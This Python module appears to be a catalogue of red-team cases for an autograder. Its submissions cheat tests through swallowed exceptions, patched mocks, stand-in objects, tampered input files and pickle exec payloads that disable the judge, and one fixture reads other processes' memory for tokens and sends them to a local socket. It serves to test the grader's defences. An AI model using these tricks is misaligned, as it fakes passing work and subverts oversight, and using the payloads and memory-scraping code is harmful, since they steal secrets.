"""A second round, by those who know the engine: what Python swallows by itself, lies in descriptions, objects on loan.

Each of these is aimed at one step of how a test is split: an exception that ends a loop in silence, an `__exit__` that
keeps an assertion from being heard, a class described to the judge as what it is not, an attribute of a test's own
object, a file that a given cell reads.
"""

import pickle
from typing import Any

from tests.attacks.catalogue.wire import NO_WIRE, PATCH
from tests.attacks.model import attack

# ------------------------------------------------------------------------- exceptions that Python swallows by itself

SWALLOWED = "swallowed"


def _swallowed(name: str, task: str, answer: str, **parts: object) -> None:
    attack(name, "p", family=SWALLOWED, tasks=(task,), answers={task: answer}, **parts)


_swallowed("map-ended", "primes", "def is_prime(n):\n    if n in (2, 1):\n        raise StopIteration")
_swallowed(
    "map-ended-by-subclass",
    "primes",
    "class Over(StopIteration):\n    pass\n\n\ndef is_prime(n):\n    raise Over",
)
_swallowed(
    "map-ended-by-object",
    "primes",
    "class Over:\n    def __call__(self, n):\n        raise StopIteration\n\n\nis_prime = Over()",
)
_swallowed(
    "map-ended-by-method",
    "primes",
    "class Over:\n    def next(self, n):\n        raise StopIteration\n\n\nis_prime = Over().next",
)
_swallowed(
    "map-ended-by-builtin",
    "primes",
    "import functools\nis_prime = functools.partial(next, iter(()))\nis_prime = lambda n: next(iter(()))",
)
NOTES = """
class Notes:
    def __enter__(self):
        return {0}
    def __exit__(self, *error):
        return {1}
    def note(self, n):
        pass
    total = 0
"""
_swallowed("exit-swallows-assertions", "notes", NOTES.format("self", "True"))
_swallowed("exit-swallows-errors", "notes", NOTES.format("None", "True"))
_swallowed("exit-swallows-with-an-object", "notes", NOTES.format("self", "self"))
_swallowed("exit-swallows-with-a-number", "notes", NOTES.format("self", "error[0] is not None and 7"))
_swallowed(
    "context-manager-swallows",
    "notes",
    """
import contextlib

@contextlib.contextmanager
def Notes():
    class Each:
        total = 0
        def note(self, n):
            pass
    try:
        yield Each()
    except BaseException:
        pass
""",
)
_swallowed("suppress-as-answer", "notes", "import contextlib\nNotes = lambda: contextlib.suppress(BaseException)")
_swallowed(
    "exit-raises-for-the-test",
    "notes",
    NOTES.format("self", "next(iter(()))"),
    unaffected="an error in place of the assertion is an error",
)
_swallowed(
    "async-exit-swallows",
    "session",
    """
class Session:
    async def __aenter__(self):
        return self
    async def __aexit__(self, *error):
        return True
    async def ask(self, n):
        return 0
""",
)
_swallowed(
    "async-exit-swallows-as-awaitable",
    "session",
    """
class Yes:
    def __await__(self):
        return True
        yield

class Session:
    async def __aenter__(self):
        return None
    def __aexit__(self, *error):
        return Yes()
""",
)
_swallowed(
    "server-swallows-assertions",
    "server",
    """
class Served:
    def __enter__(self):
        return "http://127.0.0.1:1"
    def __exit__(self, *error):
        return True

app = None
lab.serve = lambda *a, **k: Served()
""",
)
_swallowed("task-cancels-itself", "fetch", "import asyncio\nasync def fetch(n):\n    raise asyncio.CancelledError")
_swallowed(
    "task-cancels-itself-by-subclass",
    "fetch",
    "import asyncio\nclass Gone(asyncio.CancelledError):\n    pass\n\n\nasync def fetch(n):\n    raise Gone",
)
_swallowed(
    "task-cancels-itself-when-called",
    "fetch",
    "import asyncio\ndef fetch(n):\n    raise asyncio.CancelledError",
)
_swallowed(
    "task-is-a-cancelled-future",
    "fetch",
    """
import asyncio

class Gone:
    def __await__(self):
        raise asyncio.CancelledError
        yield

def fetch(n):
    return Gone()
""",
)
_swallowed("test-is-skipped", "middle", "import unittest\ndef middle(values):\n    raise unittest.SkipTest")
_swallowed(
    "test-is-stopped",
    "middle",
    "import unittest.case\ndef middle(values):\n    raise unittest.case._ShouldStop",
)
_swallowed(
    "test-is-skipped-by-subclass",
    "middle",
    "import unittest\nclass Skip(unittest.SkipTest, AssertionError):\n    pass\n\n\n"
    "def middle(values):\n    raise Skip('not now')",
)

# ---------------------------------------------------------------------------- a learner's process that describes falsely

DESCRIBED = "described"
TELLS = """
import sys

remote = sys.modules.get("grading.engine.wire.remote")
service = sys.modules.get("grading.engine.learner.service")
link = sys.modules.get("grading.engine.wire.link")
values = sys.modules.get("grading.engine.wire.values")
frames = sys.modules.get("grading.engine.wire.frames")

def tell(change):
    usual = remote.Describer.class_node
    def class_node(self, encoder, kind):
        node = usual(self, encoder, kind)
        if node[2] and kind.__module__ == "__main__":
            change(node[2], encoder)
        return node
    remote.Describer.class_node = class_node

class Any:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
    def __lt__(self, other):
        return False
    def __contains__(self, item):
        return True
    def __len__(self):
        return 3
    def __iter__(self):
        return iter((Any(), Any(), Any()))
    def __sub__(self, other):
        return self
    def __rsub__(self, other):
        return self
    def __abs__(self):
        return 0.0
    def __array__(self, dtype=None, copy=None):
        import numpy
        return numpy.zeros(3)
    def __array_ufunc__(self, ufunc, method, *inputs, **k):
        return True
    def __array_function__(self, function, types, a, k):
        return True
    def __float__(self):
        return 0.5
    def item(self):
        return 4.0
"""
_EVERY = {
    "total": "def total(rows):\n    return Any()",
    "scaled": "def scaled(values):\n    return Any()",
    "label": "def label(name, count):\n    return Any()",
    "middle": "def middle(values):\n    return Any()",
    "credit": "def square(n):\n    return Any()",
    "values": "threshold = ratio = names = Any()",
}


def _described(name: str, first: str, **parts: object) -> None:
    common = {"tasks": tuple(_EVERY), "answers": _EVERY, "unaffected": NO_WIRE}
    attack(name, str(parts.pop("aims", "p")), family=DESCRIBED, first=TELLS + first, **{**common, **parts})


_described(
    "operators-told-as-methods",
    """
tell(lambda told, encoder: told["methods"].extend(
    ["__eq__", "__ne__", "__hash__", "__lt__", "__contains__", "__sub__", "__rsub__", "__abs__"]))
""",
)
_described(
    "array-protocols-told-as-methods",
    'tell(lambda told, encoder: told["methods"].extend(["__array_ufunc__", "__array_function__", "__array_wrap__"]))',
)
_described(
    "attribute-access-told-as-method",
    'tell(lambda told, encoder: told["methods"].extend(["__getattribute__", "__class__", "__init_subclass__"]))',
)
_described(
    "inner-names-told-as-methods",
    'tell(lambda told, encoder: told["methods"].extend(["_wire_link_", "_wire_native_", "_wire_class_", "__slots__"]))',
)
_described("native-told-exactly", 'tell(lambda told, encoder: told.update(given=["T", "float"]))')
_described("native-told-a-list", 'tell(lambda told, encoder: told.update(given=["T", "list"]))')
_described("base-told-an-error", 'tell(lambda told, encoder: told["bases"].append(["T", "AssertionError"]))')
_described("base-told-a-type", 'tell(lambda told, encoder: told["bases"].append(["T", "type"]))')
_described(
    "module-told-numpy",
    'tell(lambda told, encoder: told.update(module="numpy", name="float64", lineage=["numpy.float64"]))',
)
_described(
    "fields-told-strange",
    """
tell(lambda told, encoder: told.update(fields=[["__class__", False, True, True, 1, False], ["", 1, 1, 1, None, 1]]))
""",
)
_described(
    "operators-asked-as-methods",
    """
usual = service.Service._do_get
service.Service._do_get = lambda self, thing, name: Any()
service.Service._do_method = lambda self, thing, name, a, k: True
service.Service._do_operate = lambda self, thing, name, a: True if name != "__len__" else 3
""",
)
HELPERS = """
class Helper:
    def __getattr__(self, name):
        return self
    def __call__(self, *a, **k):
        return self

check_label = same = check_close = lambda *a: None
np = numpy = pd = unittest = math = io = json = Helper()
"""
_described(
    "given-cell-refused",
    """
usual_cell, usual_test, last = service.Service._do_cell, service.Service._do_test, []

def do_cell(self, source):
    last[:] = [source]
    return usual_cell(self, source)

def do_test(self, remote):
    if last and "import unittest" in last.pop():
        raise RuntimeError("not now")
    return usual_test(self, remote)

service.Service._do_cell, service.Service._do_test = do_cell, do_test
""",
    answers={"label": f"{HELPERS}\nlabel = lambda *a: ''", "scaled": "scaled = lambda values: 0"},
    tasks=("label", "scaled"),
)
_described(
    "given-cell-interrupted",
    """
usual_cell, usual_test, last = service.Service._do_cell, service.Service._do_test, []

def do_cell(self, source):
    last[:] = [source]
    return usual_cell(self, source)

def do_test(self, remote):
    if last and "import unittest" in last.pop():
        raise KeyboardInterrupt
    return usual_test(self, remote)

service.Service._do_cell, service.Service._do_test = do_cell, do_test
""",
    answers={"label": f"{HELPERS}\nlabel = lambda *a: ''", "scaled": "scaled = lambda values: 0"},
    tasks=("label", "scaled"),
)
_described(
    "names-told-anew",
    """
import itertools
told = itertools.cycle([None, 0.125, 42, "gpu", ["gpu", "cpu", "ram"], Any()])
service.Service._do_name = lambda self, name: (True, next(told)) if name != "total" else (True, lambda rows: next(told))
""",
    tasks=("total",),
)
_described(
    "error-told-as-answer",
    """
def answer(self, lane, number, fine, answer):
    self._send([link.REPLY, lane.number, number, False], StopIteration(3))

usual = link.Link._answer
link.Link._answer = lambda self, lane, number, fine, said: (
    answer(self, lane, number, fine, said) if said is None or type(said) is Any else usual(self, lane, number, fine, said))
""",
    answers=_EVERY | {"primes": "def is_prime(n):\n    return None"},
    tasks=("primes", "total"),
)
_described(
    "containers-numbered-as-the-judges",
    """
usual = values.Encoder.__init__

def begin(self, shared, other):
    usual(self, shared, other)
    self.base = -3

values.Encoder.__init__ = begin
""",
    answers={
        "total": "def total(rows):\n    return [[], [127], [3]]",
        "callback": "def each(act, items):\n    act([1])",
    },
    tasks=("total", "callback"),
    aims="pb",
)
_described(
    "objects-released-for-the-judge",
    """
usual = link.Link._frame

def frame(self, head, value):
    self.releases.extend(range(1, 200))
    return usual(self, head, value)

link.Link._frame = frame
""",
    answers={"callback": "def each(act, items):\n    [act(n) for n in items for _ in range(50)]"},
    tasks=("callback", "total"),
    aims="pb",
)
_described(
    "lanes-without-end",
    """
import gc

def flood():
    for made in gc.get_objects():
        if type(made).__name__ == "Service":
            for number in range(1, 4000, 2):
                made.frames.put(frames.pack([link.REQUEST, number, number, "get", ["t", [1, "x"]], [1, 0], {}], []))
            made.frames.flush()
""",
    answers={"total": "def total(rows):\n    flood()"},
    tasks=("total", "values"),
    aims="pb",
)
_described(
    "awaits-without-end",
    """
import gc

def flood():
    for made in gc.get_objects():
        if type(made).__name__ == "Service":
            for number in range(1, 4000):
                made.frames.put(frames.pack([link.NOTE, 0, 0, "await", ["l", [["t", [number, 3]]]], [1, 0], {}], []))
            made.frames.flush()
""",
    answers={"total": "def total(rows):\n    flood()"},
    tasks=("total", "values"),
    aims="pb",
)
for _name, _extras in (
    ("updates-told-as-a-number", '{"u": 5}'),
    ("releases-told-as-text", '{"r": "abc"}'),
    ("releases-told-as-a-number", '{"r": 7}'),
    ("dropped-told-as-a-tree", '{"x": [[1], {}]}'),
):
    _described(
        _name,
        f"""
import gc

def flood():
    for made in gc.get_objects():
        if type(made).__name__ == "Service":
            made.frames.put(frames.pack([link.NOTE, 0, 0, "await", ["l", []], [1, 0], {_extras}], []))
            made.frames.flush()
""",
        answers={"total": "def total(rows):\n    flood()\n    import time\n    time.sleep(0.2)"},
        tasks=("total", "values"),
        aims="pb",
    )

for _name, _told in (
    ("state-told-unasked", "{'random': random.getstate(), 'environment:PATH': '.', 'environment:HOME': '/'}"),
    ("state-told-malformed", "{'random': (3, 'x', None), 'numpy.random': [1], 'environment:': 7, 'x' * 1000: None}"),
    ("warnings-told-of-another-kind", "{'warned': [Over(), StopIteration(), AssertionError(), 7, None]}"),
    ("records-told-malformed", "{'logged': [(), (1, 2), ('a', 10 ** 9, '%999999999d', (1,), 'x', None), 'x']}"),
):
    _described(
        _name,
        f"""
import random

class Over(UserWarning, StopIteration):
    pass

usual = service.Service.outgoing
service.Service.outgoing = lambda self, encoder: usual(self, encoder) | {{"t": encoder({_told})}}
""",
        answers={"roll": "def roll(source, count):\n    random.seed(1)\n    return [1] * count"},
        tasks=("roll", "primes"),
        aims="pb",
    )

# --------------------------------------------------------------------------------- what a test lends, and who owns it

LENT = "lent"


def _lent(name: str, task: str, answer: str, **parts: object) -> None:
    attack(name, "p", family=LENT, tasks=(task,), answers={task: answer}, **parts)


_lent("keys-lead-to-their-dict", "lengths", "def lengths(words):\n    return dict(words.mapping)")
_lent(
    "module-is-patched",
    "roll",
    "def roll(source, count):\n    source.randint = lambda low, high: 1\n    return [1] * count",
)
_lent(
    "module-leads-to-others",
    "roll",
    """
def roll(source, count):
    modules = source._os.sys.modules
    for name in ("random", "__main__"):
        try:
            modules[name].randint = lambda low, high: 1
            modules[name].random.randint = lambda low, high: 1
        except Exception:
            pass
    return [1] * count
""",
)
_lent(
    "mock-asserts-replaced",
    "notify",
    """
def notify(client, names):
    client.send.assert_any_call = client.close.assert_called_once_with = lambda *a: None
    client.send("x")
    client.send("y")
""",
)
_lent(
    "mock-configured",
    "notify",
    """
def notify(client, names):
    client.send.configure_mock(**{"assert_any_call": lambda *a: None, "call_count": 2})
    client.close.configure_mock(assert_called_once_with=lambda *a: None)
""",
)
_lent(
    "mock-counts-written",
    "announce",
    "def announce(names):\n    print.call_count = 2\n    print.assert_any_call = lambda *a: None",
)
_lent(
    "mock-calls-forgotten",
    "notify",
    """
def notify(client, names):
    for name in names:
        client.delete(name)
        client.send(name)
    client.close()
    client.delete.reset_mock()
""",
)
_lent(
    "mock-child-exchanged",
    "notify",
    """
def notify(client, names):
    for name in names:
        client.delete(name)
        client.send(name)
    client.close()
    from unittest.mock import Mock
    client.attach_mock(Mock(), "delete")
    client.delete = Mock()
""",
)
_lent(
    "mock-child-made-by-hand",
    "notify",
    """
def notify(client, names):
    import types
    client.delete = types.SimpleNamespace(assert_not_called=lambda: None)
    client.send = types.SimpleNamespace(assert_any_call=lambda name: None, call_count=2)
    client.close = types.SimpleNamespace(assert_called_once_with=lambda: None)
""",
)
_lent(
    "mock-inner-tables",
    "notify",
    """
def notify(client, names):
    for name in names:
        client.delete(name)
        client.send(name)
    client.close()
    client._mock_children.pop("delete")
    client.delete._mock_called = False
""",
)
_lent("method-of-an-object-replaced", "play", "def play(game):\n    game.is_won = lambda: True")
_lent("method-of-a-class-replaced", "play", "def play(game):\n    type(game).is_won = lambda self: True")
_lent("attribute-tables-written", "play", "def play(game):\n    vars(game)['is_won'] = lambda: True")
_lent("method-deleted", "play", "def play(game):\n    del type(game).is_won\n    type(game).is_won = lambda self: True")
_lent(
    "closure-is-read",
    "play",
    """
def play(game):
    game.ask(type(game).ask.__closure__[0].cell_contents)
""",
)
_lent(
    "method-hidden-by-a-value",
    "basket",
    "def filled():\n    made = Basket([])\n    made.is_valid = lambda: True\n    return made",
)
_lent(
    "method-of-a-given-class-replaced",
    "basket",
    "Basket.is_valid = lambda self: True\n\n\ndef filled():\n    return Basket([])",
)

# ------------------------------------------------------------------------------------ objects that stand for plain data

STAND_INS = "stand-ins"


def _stand_in(name: str, task: str, answer: str, **parts: object) -> None:
    attack(name, "p", family=STAND_INS, tasks=(task,), answers={task: answer}, **parts)


_stand_in(
    "text-that-starts-with-anything",
    "greet",
    """
class Text(str):
    def startswith(self, *a):
        return True
    endswith = startswith

def greet(name):
    return Text("?")
""",
)
_stand_in(
    "object-that-starts-with-anything",
    "greet",
    """
class Text:
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *a: True

def greet(name):
    return Text()
""",
)
_stand_in(
    "namespace-that-starts-with-anything",
    "greet",
    """
import types

def greet(name):
    return types.SimpleNamespace(startswith=lambda *a: True, endswith=lambda *a: True)
""",
)
_stand_in(
    "set-that-holds-anything",
    "tags",
    """
class Tags(set):
    def issuperset(self, other):
        return True
    isdisjoint = issuperset

def tags(text):
    return Tags()
""",
)
_stand_in(
    "frame-equal-to-anything",
    "joined",
    """
class Frame(pd.DataFrame):
    def equals(self, other):
        return True

def joined(left, right):
    return Frame()
""",
)
_stand_in(
    "frame-that-learns-from-equals",
    "joined",
    """
class Frame(pd.DataFrame):
    def equals(self, other):
        return other.equals(other)

def joined(left, right):
    return Frame()
""",
)
INDEX = """
class Labels(pd.Index):
    def __new__(cls, *a):
        return pd.Index([]).view(cls)
    def equals(self, other):
        return True
    identical = equals
    def __len__(self):
        return 2
    def __iter__(self):
        return iter(())
    names = inferred_type = dtype = levels = None

class Frame(pd.DataFrame):
    shape = (2, 2)
    index = columns = property(lambda self: Labels())
    def __getitem__(self, key):
        return pd.Series([60])
"""
_stand_in(
    "frame-of-no-columns",
    "table",
    INDEX + "frame = Frame()",
    unaffected="plain pandas looks at more of it than the judge's stand-in shows",
)
_stand_in(
    "frame-of-equal-columns",
    "table",
    """
class Column(pd.Series):
    def equals(self, other):
        return True
    def sum(self):
        return 60
    def __eq__(self, other):
        return True

class Frame(pd.DataFrame):
    def _ixs(self, i, axis=0):
        return Column([1, 2])
    def equals(self, other):
        return True

frame = Frame({"model": ["x", "y"], "tokens": [0, 60]})
""",
    deserved=1,
    unaffected="pandas compares what the columns hold",
)

# -------------------------------------------------------------------------------------- what the author's cells read

GIVEN = "given"
CSV = "item,price\na,2\nb,5\n"
_JUDGE = (
    "import sys\njudge = sys.modules.get('grading.engine.judge.testing')\n"
    "if judge and hasattr(judge, 'Judge'):\n    judge.Judge.run_test = lambda self, *a, **k: []\n" + PATCH
)


class _Runs:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        return (exec, (self.code,))


def _given(name: str, task: str, first: str = "", **parts: object) -> None:
    attack(name, str(parts.pop("aims", "p")), family=GIVEN, first=first, tasks=(task,), **parts)


_given(
    "given-file-removed",
    "sales",
    "import os\nos.remove('sales.csv')\n",
    files={"sales.csv": CSV},
    answers={
        "sales": "import pandas as pd\nmean_price, sales = 0, pd.DataFrame({'price': [0]})\ncheck_close = lambda *a: None"
    },
)
_given(
    "given-file-rewritten",
    "sales",
    "from pathlib import Path\nPath('sales.csv').write_text('item,price\\na,0\\n')\n",
    files={"sales.csv": CSV},
)
_given(
    "given-file-made-a-folder",
    "sales",
    "import os\nos.remove('sales.csv')\nos.mkdir('sales.csv')\n",
    files={"sales.csv": CSV},
    answers={"sales": "mean_price, sales = 0, {'price': __import__('numpy').zeros(1)}\ncheck_close = lambda *a: None"},
)
_given(
    "given-file-made-a-pipe",
    "sales",
    "import os\nos.remove('sales.csv')\nos.mkfifo('sales.csv')\n",
    files={"sales.csv": CSV},
    slow=True,
    unaffected="the learner's own copy of the cell waits for it first",
)
_given(
    "given-line-magic-fails",
    "level",
    "def refuse():\n    raise RuntimeError('no magics')\n\n\nget_ipython = refuse\n",
    answers={"level": "level = None\ncheck_level = lambda got: None"},
)
_given(
    "given-cell-killed",
    "level",
    "import os\nget_ipython().events.register(\n"
    "    'pre_run_cell', lambda info: os._exit(0) if 'def check_level' in info.raw_cell else None)\n",
    answers={"level": "level = None\ncheck_level = lambda got: None"},
    unaffected="a kernel that ends loses the submission",
)
_given(
    "given-cell-never-ends",
    "level",
    "def wait(info):\n    while 'def check_level' in info.raw_cell:\n        try:\n            while True:\n                pass\n"
    "        except BaseException:\n            pass\n\n\nget_ipython().events.register('pre_run_cell', wait)\n",
    answers={"level": "level = None\ncheck_level = lambda got: None"},
    slow=True,
    unaffected="a kernel that hangs loses the submission",
)
_given(
    "given-file-cannot-be-written",
    "level",
    "import os\nos.mkdir('level.log')\n",
    answers={"level": "level = None\ncheck_level = lambda got: None"},
)
_given(
    "given-pickle-rewritten",
    "history",
    "import pickle\n\n\nclass Runs:\n    def __reduce__(self):\n"
    f"        return (exec, ({_JUDGE!r},))\n\n\nopen('history.pkl', 'wb').write(pickle.dumps(Runs()))\n",
    files={"history.pkl": pickle.dumps([1, 2, 3, 6])},
    answers={"history": "mean = None"},
)
_given(
    "given-pickle-handed-in",
    "history",
    "pass",
    files={"history.pkl": pickle.dumps(_Runs(_JUDGE))},
    answers={"history": "mean = None"},
)
_given(
    "given-module-made",
    "history",
    f"open('graphlib.py', 'w').write({_JUDGE!r})\nimport pickle, sys\nsys.path.insert(0, '')\n"
    "sys.modules.pop('graphlib', None)\n",
    files={"history.pkl": pickle.dumps([1, 2, 3, 6])},
    answers={"history": "mean = None"},
)
_given(
    "script-run-by-the-test",
    "script",
    answers={"script": f"Path('app.py').write_text({_JUDGE + 'limit = 0'!r})"},
)
_given(
    "script-started-by-the-test",
    "script",
    """
import socket, threading

server = socket.create_server(("127.0.0.1", 0))
said = []

def listen():
    while True:
        end, _ = server.accept()
        said.append(end.makefile("rb").read())

threading.Thread(target=listen, daemon=True).start()
""",
    aims="r",
    answers={
        "script": """
SCRIPT = '''
import os, re, socket
found = set()
for pid in (os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                span, mode, _, _, inode = line.split()[:5]
                start, end = (int(part, 16) for part in span.split("-"))
                if "rw" in mode and inode == "0":
                    memory.seek(start)
                    found.update(re.findall(rb"tok[0-9a-f]{20}", memory.read(min(end - start, 1 << 26))))
    except OSError:
        pass
with socket.create_connection(("127.0.0.1", PORT)) as end:
    end.sendall(b" ".join(found) or b"nothing")
'''
Path("app.py").write_text(SCRIPT.replace("PORT", str(server.getsockname()[1])))
"""
    },
    last="import time\ntime.sleep(0.3)\nprint(said)",
)
